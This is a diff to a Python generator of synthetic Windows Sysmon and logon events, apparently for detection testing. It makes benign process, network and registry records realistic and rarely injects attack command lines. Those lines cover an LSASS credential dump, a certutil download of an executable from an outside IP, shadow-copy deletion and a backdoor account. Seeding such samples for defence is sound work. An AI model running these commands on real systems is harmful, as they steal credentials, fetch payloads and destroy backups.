@@ -25,31 +25,88 @@ USERS = [
     "hoang.van.em",
     "SYSTEM",
 ]
-IMAGES = [
-    r"C:\Windows\System32\svchost.exe",
-    r"C:\Windows\explorer.exe",
-    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
-    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
-    r"C:\Windows\System32\cmd.exe",
-    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-    r"C:\Windows\System32\conhost.exe",
-    r"C:\Windows\System32\taskhostw.exe",
-    r"C:\Program Files\7-Zip\7z.exe",
-    r"C:\Windows\System32\msiexec.exe",
+SYS32 = "C:\\Windows\\System32\\"
+#: Benign process launches as they appear on city workstations and servers: parent, image, command line.
+PROCESSES = [
+    (
+        SYS32 + "services.exe",
+        SYS32 + "svchost.exe",
+        SYS32 + "svchost.exe -k netsvcs -p -s Schedule",
+    ),
+    (
+        SYS32 + "services.exe",
+        SYS32 + "svchost.exe",
+        SYS32 + "svchost.exe -k LocalService -p -s EventLog",
+    ),
+    (SYS32 + "svchost.exe", SYS32 + "taskhostw.exe", "taskhostw.exe"),
+    (
+        "C:\\Windows\\explorer.exe",
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=vi',
+    ),
+    (
+        "C:\\Windows\\explorer.exe",
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "D:\\VanBan\\bao-cao-thang-11.docx"',
+    ),
+    (
+        "C:\\Windows\\explorer.exe",
+        "C:\\Program Files\\7-Zip\\7zFM.exe",
+        '"C:\\Program Files\\7-Zip\\7zFM.exe" "D:\\VanBan\\ho-so.zip"',
+    ),
+    (
+        "C:\\Windows\\explorer.exe",
+        SYS32 + "notepad.exe",
+        SYS32 + 'notepad.exe "D:\\VanBan\\ghi-chu.txt"',
+    ),
+    (SYS32 + "services.exe", SYS32 + "msiexec.exe", SYS32 + "msiexec.exe /V"),
+    (
+        SYS32 + "svchost.exe",
+        SYS32 + "wbem\\WmiPrvSE.exe",
+        SYS32 + "wbem\\wmiprvse.exe -secured -Embedding",
+    ),
+    (
+        "C:\\Windows\\explorer.exe",
+        "C:\\Program Files\\Unikey\\UniKeyNT.exe",
+        '"C:\\Program Files\\Unikey\\UniKeyNT.exe"',
+    ),
 ]
-BENIGN_CMD = [
-    "{img} -k netsvcs -p",
-    '"{img}" /n "C:\\Users\\{user}\\Documents\\bao-cao-thang-11.docx"',
-    "{img} /c echo %DATE% >> C:\\logs\\backup.log",
-    '"{img}" --type=renderer --lang=vi --field-trial-handle=1844',
-    "{img} -NoProfile -File C:\\Scripts\\inventory.ps1",
+#: Benign outbound connections: image and destination port.
+CONNECTIONS = [
+    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 443),
+    (SYS32 + "svchost.exe", 443),
+    (SYS32 + "svchost.exe", 53),
+    (SYS32 + "lsass.exe", 389),
+    (SYS32 + "lsass.exe", 88),
+    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", 443),
+]
+REGISTRY = [
+    (
+        SYS32 + "svchost.exe",
+        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
+    ),
+    (
+        "C:\\Windows\\explorer.exe",
+        r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\MRUList",
+    ),
+    (
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+        r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Word\Reading Locations\Document 0\Position",
+    ),
 ]
 ATTACK_CMD = [
-    r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full",
-    r"C:\Windows\System32\certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Temp\a.exe",
-    r"C:\Windows\System32\vssadmin.exe delete shadows /all /quiet",
-    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
-    r"C:\Windows\System32\net.exe user backdoor P@ssw0rd /add",
+    (
+        SYS32 + "cmd.exe",
+        SYS32 + "rundll32.exe",
+        r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full",
+    ),
+    (
+        SYS32 + "cmd.exe",
+        SYS32 + "certutil.exe",
+        r"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Temp\a.exe",
+    ),
+    (SYS32 + "cmd.exe", SYS32 + "vssadmin.exe", r"vssadmin.exe delete shadows /all /quiet"),
+    (SYS32 + "cmd.exe", SYS32 + "net.exe", r"net.exe user backdoor P@ssw0rd /add"),
 ]
 SYSMON = "Microsoft-Windows-Sysmon/Operational"
 HANOI = timezone(timedelta(hours=7))
@@ -76,12 +133,7 @@ def windows_event(rng: random.Random, t: datetime) -> dict:
     roll = rng.random()
     user = rng.choice(USERS)
     if roll < 0.45:  # Sysmon process creation
-        img = rng.choice(IMAGES)
-        cmd = (
-            rng.choice(ATTACK_CMD)
-            if rng.random() < 0.001
-            else rng.choice(BENIGN_CMD).format(img=img, user=user)
-        )
+        parent, img, cmd = rng.choice(ATTACK_CMD) if rng.random() < 0.001 else rng.choice(PROCESSES)
         system = _system(rng, t, 1, SYSMON, "Microsoft-Windows-Sysmon")
         data = {
             "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
@@ -94,39 +146,35 @@ def windows_event(rng: random.Random, t: datetime) -> dict:
             "User": f"HAIPHONG\\{user}",
             "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
             "Hashes": f"SHA256={rng.getrandbits(256):064X}",
-            "ParentImage": rng.choice(IMAGES),
-            "ParentCommandLine": "C:\\Windows\\explorer.exe",
+            "ParentImage": parent,
+            "ParentCommandLine": parent,
         }
     elif roll < 0.65:  # Sysmon network connection
+        image, port = rng.choice(CONNECTIONS)
         system = _system(rng, t, 3, SYSMON, "Microsoft-Windows-Sysmon")
         data = {
-            "Image": rng.choice(IMAGES),
+            "Image": image,
             "User": f"HAIPHONG\\{user}",
             "Protocol": "tcp",
             "Initiated": "true",
             "SourceIp": f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}",
             "SourcePort": rng.randrange(1024, 65535),
             "DestinationIp": f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}",
-            "DestinationPort": rng.choice([443, 80, 445, 389, 53, 3389]),
+            "DestinationPort": port,
         }
     elif roll < 0.80:  # Sysmon registry set
+        image, key = rng.choice(REGISTRY)
         system = _system(rng, t, 13, SYSMON, "Microsoft-Windows-Sysmon")
         data = {
             "EventType": "SetValue",
-            "Image": rng.choice(IMAGES),
-            "TargetObject": rng.choice(
-                [
-                    r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Word\MRU\Item 1",
-                    r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
-                    r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\MRUList",
-                ]
-            ),
+            "Image": image,
+            "TargetObject": key,
             "Details": "DWORD (0x00000001)",
         }
     elif roll < 0.90:  # Sysmon file create
         system = _system(rng, t, 11, SYSMON, "Microsoft-Windows-Sysmon")
         data = {
-            "Image": rng.choice(IMAGES),
+            "Image": rng.choice(PROCESSES)[1],
             "TargetFilename": f"C:\\Users\\{user}\\AppData\\Local\\Temp\\tmp{rng.randrange(10**6):06d}.tmp",
         }
     else:  # Security logons
